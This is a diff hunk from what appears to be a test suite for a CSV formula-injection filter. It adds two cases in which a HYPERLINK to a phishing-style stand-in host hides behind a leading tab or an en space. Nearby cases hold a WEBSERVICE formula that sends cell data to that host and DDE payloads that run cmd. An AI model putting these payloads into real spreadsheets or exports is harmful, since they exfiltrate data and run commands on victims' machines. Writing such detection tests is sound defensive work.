@@ -435,6 +435,8 @@ bcsv(
   'pedido;link\n1;\uff0d\uff28\uff39\uff30\uff25\uff32\uff2c\uff29\uff2e\uff2b("http://golpe.example")\n',
 );
 bcsv('full-width W webservice', 'pedido;c\n1;-\uff37EBSERVICE("http://golpe.example/?c="&B2)\n');
+bcsv('tab opening the file', '\t=HYPERLINK("http://golpe.example/login")\n');
+bcsv('en space before the sign', 'pedido;link\n1;\u2002=HYPERLINK("http://golpe.example/login")\n');
 bcsv('space before bracket', 'pedido;link\n1;-HYPERLINK ("http://golpe.example/login")\n');
 bcsv('quoted dde app', "pedido;valor\n1;-'cmd'|' /C calc'!A0\n");
 bcsv('double-quoted dde app', 'pedido;valor\n1;-"cmd"|\' /C calc\'!A0\n');
